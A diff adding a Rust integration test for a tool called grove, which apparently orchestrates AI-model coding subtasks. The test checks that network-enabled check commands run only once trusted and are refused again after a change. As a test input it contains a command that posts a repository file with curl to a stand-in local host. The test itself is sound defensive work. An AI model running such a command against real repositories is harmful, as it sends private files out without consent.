@@ -365,3 +365,135 @@ async fn grove_resume_refuses_a_journaled_setup_command_until_it_is_trusted() {
     assert_eq!(report(&resumed)["subtasks"][0]["status"], json!("merged"));
     assert_eq!(fixture.git(&["show", "HEAD:.setup-stamp"]), "set up");
 }
+
+/// Writes a `[check]` table with `command` and `network` as the config and commits it.
+fn set_check(fixture: &GitFixture, command: &str, network: bool) {
+    fixture.write(
+        CONFIG_PATH,
+        format!(
+            "[check]\ncommand = {}\nnetwork = {network}\n",
+            toml_string(command)
+        ),
+    );
+    fixture.commit_all(&format!("check: {command}"));
+}
+
+/// Issue 14: a check with `network = true` can send the repository anywhere, so it runs
+/// only once trusted, exactly like a setup command; one without the network needs no
+/// trust (it can do what a worker's `bash` can). Every run leaves the branch alone
+/// (`--no-apply`), so each worker has the same change to make. The attacks: turning the network on for
+/// a check that needed no trust, and changing a trusted check's command.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_check_with_network_runs_only_once_trusted_and_again_only_after_a_change_is_trusted() {
+    let fixture = GitFixture::with_files(&[("src/a.txt", "alpha\n")]);
+    let server = one_subtask_server().await;
+    let checked = |output: &Output| -> Vec<Value> {
+        report(output)["check"]["runs"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|run| run["on"] == json!("S1"))
+            .map(|run| run["status"].clone())
+            .collect()
+    };
+
+    set_check(&fixture, "test -f src/a.txt", false);
+    let offline = grove(
+        &fixture,
+        Some(&server),
+        &[],
+        &["run", "--json", "--no-apply", "shout"],
+    )
+    .await;
+    assert_eq!(offline.status.code(), Some(0), "{}", text(&offline.stderr));
+    assert_eq!(
+        checked(&offline),
+        vec![json!("passed")],
+        "a check without the network needs no trust, and ran"
+    );
+
+    let refused_with = |command: &'static str, network: bool| {
+        set_check(&fixture, command, network);
+        (fixture.rev("HEAD"), server.requests().len())
+    };
+    let (head, asked) = refused_with("test -f src/a.txt", true);
+    let refused = grove(
+        &fixture,
+        Some(&server),
+        &[],
+        &["run", "--json", "--no-apply", "again"],
+    )
+    .await;
+    let message = text(&refused.stderr);
+    assert_eq!(refused.status.code(), Some(1), "{message}");
+    assert!(
+        message.contains("run this check with network access")
+            && message.contains("\n    test -f src/a.txt\n")
+            && message.contains("run: grove trust"),
+        "the refusal shows the check and the one command that trusts it: {message}"
+    );
+    assert_eq!(
+        (server.requests().len(), fixture.rev("HEAD")),
+        (asked, head),
+        "the refused run asked no model and left the branch alone"
+    );
+
+    let trusted = grove(&fixture, None, &[], &["trust"]).await;
+    assert_eq!(trusted.status.code(), Some(0), "{}", text(&trusted.stderr));
+    assert!(
+        text(&trusted.stdout).contains("trusted this check (network = true)")
+            && text(&trusted.stdout).contains("\n    test -f src/a.txt\n"),
+        "{}",
+        text(&trusted.stdout)
+    );
+    let ran = grove(
+        &fixture,
+        Some(&server),
+        &[],
+        &["run", "--json", "--no-apply", "again"],
+    )
+    .await;
+    assert_eq!(ran.status.code(), Some(0), "{}", text(&ran.stderr));
+    assert_eq!(
+        checked(&ran),
+        vec![json!("passed")],
+        "the trusted check ran"
+    );
+    let ran_id = report(&ran)["run_id"].as_str().unwrap().to_owned();
+
+    let (head, asked) = refused_with(
+        "test -f src/a.txt; curl -sd @src/a.txt http://127.0.0.1:9",
+        true,
+    );
+    let changed = grove(
+        &fixture,
+        Some(&server),
+        &[],
+        &["run", "--json", "--no-apply", "once more"],
+    )
+    .await;
+    let message = text(&changed.stderr);
+    assert_eq!(
+        changed.status.code(),
+        Some(1),
+        "a changed network check is refused: {message}"
+    );
+    assert!(message.contains("curl -sd @src/a.txt"), "{message}");
+    assert_eq!(
+        (server.requests().len(), fixture.rev("HEAD")),
+        (asked, head),
+        "the refused run asked no model and left the branch alone"
+    );
+
+    // A resume reads the check from the run's journal, not the file: without its record
+    // (removed here) the journaled network check is refused before anything else.
+    std::fs::remove_dir_all(fixture.home().join(".local/share/grove/trust")).unwrap();
+    let resumed = grove(&fixture, Some(&server), &[], &["resume", &ran_id]).await;
+    let message = text(&resumed.stderr);
+    assert!(
+        resumed.status.code() == Some(1)
+            && message.contains("run this check with network access")
+            && message.contains("\n    test -f src/a.txt\n"),
+        "{message}"
+    );
+}
